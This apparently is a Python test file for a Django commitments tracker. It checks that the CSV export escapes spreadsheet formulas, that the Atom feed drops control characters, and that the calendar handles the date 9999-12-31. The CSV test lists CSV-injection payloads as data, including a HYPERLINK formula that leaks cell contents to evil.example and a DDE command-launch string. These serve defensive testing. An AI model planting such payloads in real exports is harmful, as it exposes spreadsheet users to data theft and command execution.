"""The CSV, the calendar and the Atom feed against stored rows no one planned for: formulas in a
summary, control characters, dates at the end of the calendar. The rows are stored straight
through the ORM, as an import or old data would hold them."""

import csv
import datetime
import io
import xml.etree.ElementTree as ET

import icalendar
import pytest
from django.conf import settings

from commitments.models import Commitment
from tests.factories import CommitmentFactory

pytestmark = pytest.mark.django_db


def body(response) -> bytes:
    """The whole body, streamed or not."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(client) -> list[dict]:
    """The CSV's rows as an English reader downloads it (`,` and the English headers)."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.get("/commitments.csv")
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "summary",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_writes_a_summary_a_spreadsheet_would_run_as_text(client, summary):
    """A reader downloads the CSV while one stored summary is a formula: =HYPERLINK(...),
    @SUM(...), +1+1, -1+1, or =1+1 behind a tab or a carriage return. The cell starts with an
    apostrophe, so a spreadsheet shows the text instead of running it."""
    commitment = CommitmentFactory(summary=summary)

    [row] = csv_rows(client)

    assert row["Number"] == commitment.number
    assert row["Summary"].startswith("'")
    assert row["Summary"].removeprefix("'").replace("\\|", "|") == summary


def test_it_leaves_ordinary_cells_as_they_are(client):
    """A reader downloads the CSV of a commitment with a plain summary and dates: nothing gets
    an apostrophe."""
    commitment = CommitmentFactory(summary="Informeren over de stikstofaanpak")

    [row] = csv_rows(client)

    assert row["Summary"] == "Informeren over de stikstofaanpak"
    assert row["Made on"] == commitment.made_on.isoformat()


def store_as_imported(commitment, **fields):
    """Write `fields` straight to the commitment's row and its audit records, past every check
    on the way in, as an old import may have left them."""
    Commitment.objects.filter(pk=commitment.pk).update(**fields)
    Commitment.history.filter(id=commitment.pk).update(
        **{name: value for name, value in fields.items() if name != "updated_at"}
    )


@pytest.mark.parametrize("control", ["\x0b", "\x07", "\x1f"])
def test_it_serves_the_changes_feed_when_a_stored_summary_holds_a_control_character(
    client, control
):
    """A feed reader fetches /feed/changes.atom while one stored summary reads
    "Informeren<U+000B>over stikstof" (also U+0007 and U+001F): the feed is valid XML with
    every entry, the summary without the character, the ministry beside it."""
    odd = CommitmentFactory(summary="Ordinary")
    plain = CommitmentFactory(summary="Informeren over water")
    store_as_imported(odd, summary=f"Informeren{control}over stikstof")

    response = client.get("/feed/changes.atom")

    assert response.status_code == 200
    feed = ET.fromstring(response.content)
    text = ET.tostring(feed, encoding="unicode")
    assert "Informerenover stikstof" in text
    assert odd.number in text and plain.number in text


def test_it_serves_the_calendar_when_a_stored_due_date_is_the_last_day_a_date_can_be(client):
    """A subscriber fetches /commitments.ics while one stored due date is 31 December 9999: the
    calendar holds that event, as one all-day event, and every other one."""
    last = CommitmentFactory()
    plain = CommitmentFactory(due_date=datetime.date(2025, 3, 1))
    store_as_imported(last, due_date=datetime.date(9999, 12, 31))

    response = client.get("/commitments.ics")

    assert response.status_code == 200
    events = {
        str(event["uid"]).split("@")[0]: event
        for event in icalendar.Calendar.from_ical(body(response)).walk("VEVENT")
    }
    assert set(events) == {last.number, plain.number}
    assert events[last.number].decoded("dtstart") == datetime.date(9999, 12, 31)
    assert events[plain.number].decoded("dtend") == datetime.date(2025, 3, 2)
